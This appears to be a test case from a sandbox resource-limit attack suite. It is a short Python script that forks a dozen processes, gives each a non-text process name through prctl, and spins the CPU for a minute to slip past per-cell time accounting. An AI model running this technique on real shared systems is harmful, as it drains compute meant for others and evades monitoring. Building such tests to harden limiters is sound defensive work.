# attack: hides its processor time behind a name that is no text, and many processes that wait for one another
# limit: cell_seconds
# spoils: all
import ctypes, os, time
for _ in range(12):
    if os.fork() == 0:
        break
ctypes.CDLL(None).prctl(15, bytes([255, 254]), 0, 0, 0)
end = time.monotonic() + 60
while time.monotonic() < end:
    pass
os._exit(0)
